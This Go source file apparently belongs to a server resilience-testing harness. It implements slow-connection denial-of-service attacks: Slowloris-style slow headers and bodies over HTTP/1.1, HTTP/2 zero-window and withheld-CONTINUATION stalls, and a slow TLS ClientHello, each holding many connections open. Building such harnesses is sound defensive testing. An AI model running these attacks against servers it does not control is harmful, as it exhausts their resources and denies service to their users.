package main

import (
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"sync"
	"time"
)

// holding is how many connections each slow peer holds to each port; they come
// from many addresses.
const holding = 25

// slow are peers that take their time for as long as everything else goes on:
// each says a byte every second, or nothing, or reads nothing.
func (a *arena) slow() (all []attack) {
	crawl := func(begin, rest string, protocols ...string) func(context.Context, target) error {
		return func(ctx context.Context, t target) error {
			a.hold(ctx, func() (io.WriteCloser, error) { return a.dial(ctx, t, protocols...) }, begin, rest)
			return nil
		}
	}
	post := "POST " + lookupPath + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/proto\r\n"
	stuck := frame(kindSettings, 0, 0, "\x00\x04\x00\x00\x00\x00")
	calls := ""
	for n := range uint32(60) {
		calls += call(2*n + 1)
	}
	many := ""
	for range 200 {
		many += string(request(lookupPath, protobuf, lookup()))
	}
	for name, do := range map[string]func(context.Context, target) error{
		"slow headers":                  crawl("", post+"X: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "http/1.1"),
		"slow body":                     crawl(post+"Content-Length: 100000\r\n\r\n", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "http/1.1"),
		"slow chunks":                   crawl(post+"Transfer-Encoding: chunked\r\n\r\n", "1\r\na\r\n1\r\na\r\n1\r\na\r\n1\r\na\r\n", "http/1.1"),
		"nothing said":                  crawl("", "", "http/1.1"),
		"answers not read":              crawl(many, "", "http/1.1"),
		"HTTP/2, slow preface":          crawl("", preface+frame(kindSettings, 0, 0, ""), "h2"),
		"HTTP/2, slow headers":          crawl(opening()+header(len(asks()), kindHeaders, flagEndHeaders, 1), asks(), "h2"),
		"HTTP/2, slow body":             crawl(opening()+frame(kindHeaders, flagEndHeaders, 1, asks())+header(10_000, kindData, flagEnd, 1), "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "h2"),
		"HTTP/2, windows of zero":       crawl(preface+stuck+calls, "", "h2"),
		"HTTP/2, nothing after hello":   crawl(opening(), "", "h2"),
		"HTTP/2, continuation withheld": crawl(opening()+frame(kindHeaders, 0, 1, asks()), "", "h2"),
	} {
		all = append(all, against(a.doors(), name, do)...)
	}
	hello := string(clientHello(&tls.Config{InsecureSkipVerify: true}))
	return append(all, against(a.targets, "slow hello", func(ctx context.Context, t target) error {
		a.hold(ctx, func() (io.WriteCloser, error) { return a.plain(ctx, t) }, "", hello)
		return nil
	})...)
}

// slowAtRooms are the slow ones at the doors beside mail.
func (a *arena) slowAtRooms() (all []attack) {
	for _, r := range a.rooms {
		all = append(all, r.slow...)
	}
	return all
}

// ramp is how long after one another a slow peer opens its connections.
const ramp = 800 * time.Millisecond

// hold keeps connections open until ctx ends, and says rest on each byte by
// byte. One that the server ends is made anew.
func (a *arena) hold(ctx context.Context, dial func() (io.WriteCloser, error), begin, rest string) {
	var all sync.WaitGroup
	// Nobody begins with all others: so many handshakes in one moment would be a burst of this
	// program's own, on processors that it shares with who is attacked.
	_ = pause(ctx, rand.N(ramp))
	for range holding {
		all.Go(func() {
			for ctx.Err() == nil {
				a.linger(ctx, dial, begin, rest)
			}
		})
		if pause(ctx, ramp) != nil {
			break
		}
	}
	all.Wait()
}

// linger is one slow connection.
func (a *arena) linger(ctx context.Context, dial func() (io.WriteCloser, error), begin, rest string) {
	c, err := dial()
	if err != nil {
		_ = pause(ctx, time.Second)
		return
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	if _, err := io.WriteString(c, begin); err != nil {
		_ = pause(ctx, time.Second)
		return
	}
	for i := 0; i < max(len(rest), 50); i++ {
		if pause(ctx, time.Second) != nil {
			return
		}
		if i < len(rest) {
			if _, err := io.WriteString(c, rest[i:i+1]); err != nil {
				return
			}
		}
	}
}

// pause waits, unless ctx ends.
func pause(ctx context.Context, long time.Duration) error {
	t := time.NewTimer(long)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}
